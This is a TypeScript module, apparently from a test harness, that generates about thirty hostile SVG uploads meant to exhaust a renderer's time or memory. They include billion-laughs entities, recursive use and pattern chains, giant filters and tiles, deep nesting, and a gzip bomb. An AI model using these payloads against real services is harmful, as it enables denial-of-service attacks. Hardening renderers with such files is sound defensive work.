import { gzipSync } from 'node:zlib'
import type { Attack } from '../attack.ts'
import { blackPng } from '../files.ts'
import { type HostileFile, uploadAll } from '../uploads.ts'

const XMLNS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (content: string, attributes = 'width="100" height="100"', prolog = ''): Buffer =>
  Buffer.from(`${prolog}<svg ${XMLNS} ${attributes}>${content}</svg>`)

const doctype = (declarations: string): string => `<!DOCTYPE svg [${declarations}]>`

const laughs = (levels: number, times: number): string =>
  doctype(
    `<!ENTITY l0 "ha">${Array.from({ length: levels }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(times)}">`).join('')}`,
  )

const uses = (levels: number, times: number): string =>
  `<defs><rect id="l0" width="9" height="9"/>${Array.from(
    { length: levels },
    (_, i) => `<g id="l${i + 1}">${`<use href="#l${i}"/>`.repeat(times)}</g>`,
  ).join('')}</defs><use href="#l${levels}"/>`

/** Patterns filled with patterns: each level draws the one below many times. */
const patterns = (levels: number): string =>
  `<defs><pattern id="p0" width="1" height="1" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern>${Array.from(
    { length: levels },
    (_, i) =>
      `<pattern id="p${i + 1}" width="2" height="2" patternUnits="userSpaceOnUse"><rect width="9999" height="9999" fill="url(#p${i})"/></pattern>`,
  ).join('')}</defs><rect width="9999" height="9999" fill="url(#p${levels})"/>`

const filters = (count: number): string =>
  `<filter id="f" x="-1" y="-1" width="3" height="3">${'<feGaussianBlur stdDeviation="300"/><feTurbulence numOctaves="9"/><feMorphology radius="200"/>'.repeat(count)}</filter><rect width="100%" height="100%" filter="url(#f)"/>`

/** A filter that keeps what each of its parts drew: a surface of the drawing's size each. */
const keptResults = (count: number): string =>
  `<filter id="f">${Array.from({ length: count }, (_, i) => `<feOffset result="r${i}"/>`).join('')}</filter><rect width="100%" height="100%" filter="url(#f)"/>`

const groups = (depth: number): string =>
  `${'<g opacity=".5">'.repeat(depth)}<rect width="100%" height="100%"/>${'</g>'.repeat(depth)}`

/** A pattern whose tile is far larger than the drawing. */
const hugeTile = (side: number): string =>
  `<pattern id="p" width="${side}" height="${side}" patternUnits="userSpaceOnUse"><rect width="${side}" height="${side}"/></pattern><rect width="100%" height="100%" fill="url(#p)"/>`

const embedded = (side: number): string =>
  `<image width="9" height="9" href="data:image/png;base64,${blackPng(side, side).toString('base64')}"/>`

const nested = (depth: number): string =>
  depth === 0
    ? '<rect width="1" height="1"/>'
    : `<image width="9" height="9" href="data:image/svg+xml;base64,${svg(nested(depth - 1)).toString('base64')}"/>`

export const FILES: readonly HostileFile[] = [
  {
    name: 'a width of 250,000 digits by entities',
    make: () => svg('', `width="${'&e;'.repeat(60)}"`, doctype(`<!ENTITY e "${'1'.repeat(4_000)}">`)),
  },
  { name: 'a width of 64,000 digits', make: () => svg('', `width="${'1'.repeat(64_000)}!"`) },
  { name: 'a width of blanks', make: () => svg('', `width="1${' '.repeat(200_000)}x"`) },
  { name: 'a billion laughs', make: () => svg('<text>&l9;</text>', undefined, laughs(9, 10)) },
  { name: 'laughs in an attribute', make: () => svg('<text id="&l9;"/>', 'width="&l9;" height="5"', laughs(9, 10)) },
  { name: 'a chain of 20,000 entities', make: () => svg('<text>&l20000;</text>', undefined, laughs(20_000, 1)) },
  { name: 'a document type of open quotes', make: () => Buffer.from(`<!DOCTYPE svg [${'<a"">'.repeat(40_000)}`) },
  { name: 'the 311 bytes that took for ever', make: () => svg('', '', `<!DOCTYPE svg [${'<a>'.repeat(80)}`) },
  { name: 'a million comments that never end', make: () => svg('<!--'.repeat(1_000_000)) },
  { name: 'a million ampersands', make: () => svg('&'.repeat(1_000_000)) },
  {
    name: 'an element of 100,000 attributes',
    make: () => svg(`<path ${Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`),
  },
  { name: 'uses of uses', make: () => svg(uses(10, 10)) },
  { name: 'a chain of 20,000 uses', make: () => svg(uses(20_000, 1)) },
  { name: 'uses in a circle', make: () => svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>') },
  { name: 'patterns of patterns', make: () => svg(patterns(6), 'width="2000" height="2000"') },
  {
    name: 'filters at 10000x10000',
    make: () => svg(filters(10), 'width="10000" height="10000"'),
    options: ['full,format=png,timeout=5'],
  },
  {
    name: 'a filter of 30 results at 10000x10000',
    make: () => svg(keptResults(30), 'width="10000" height="10000"'),
    options: ['full,format=png,timeout=10'],
  },
  {
    name: 'the same in a style sheet at 7000x7000',
    make: () =>
      svg(
        `<style>.a{filter:url(#f)}</style>${keptResults(30).replace('filter="url(#f)"', 'class="a"')}`,
        'width="7000" height="7000"',
      ),
    options: ['full,format=png,timeout=10'],
  },
  {
    name: '200 groups with opacity at 10000x10000',
    make: () => svg(groups(200), 'width="10000" height="10000"'),
    options: ['full,format=png,timeout=10'],
  },
  { name: 'a tile of 30000x30000', make: () => svg(hugeTile(30_000)), options: ['full,format=png,timeout=10', 'full'] },
  { name: 'an image of 30000x30000 within', make: () => svg(embedded(30_000)), options: ['full,format=png', '300'] },
  {
    name: '40 images of 6000x6000 within',
    make: () => svg(Array.from({ length: 40 }, (_, i) => embedded(6_000 + i)).join('')),
    options: ['full,format=png', '300'],
  },
  {
    name: 'a mask in a mask',
    make: () =>
      svg(`<mask id="m" mask="url(#m)"><rect width="9" height="9"/></mask><rect mask="url(#m)" width="9" height="9"/>`),
  },
  { name: '5,000 elements deep', make: () => svg(`${'<g>'.repeat(5_000)}${'</g>'.repeat(5_000)}`) },
  { name: '300,000 elements', make: () => svg('<path d="M0 0"/>'.repeat(300_000)) },
  { name: 'a path of 5 MB', make: () => svg(`<path d="M0 0${'l1 1-1-1'.repeat(600_000)}"/>`) },
  { name: 'SVG in SVG in SVG', make: () => svg(nested(6)) },
  { name: 'a style sheet of 2 MB of open braces', make: () => svg(`<style>${'a{'.repeat(1_000_000)}</style>`) },
  {
    name: 'a value of 100,000 brackets',
    make: () => svg(`<rect fill="${'url('.repeat(25_000)}" style="${'a:('.repeat(30_000)}"/>`),
  },
  { name: 'an SVGZ of 2 GB', make: () => gzipSync(Buffer.alloc(200_000_000, ' ')) },
  { name: '100,000 attributes', make: () => svg('', Array.from({ length: 100_000 }, (_, i) => `a${i}=""`).join(' ')) },
]

/** Documents that ask for more time or memory than anybody has. */
export const MARKUP: Attack = { name: 'markup', run: (arena) => uploadAll(arena, FILES) }
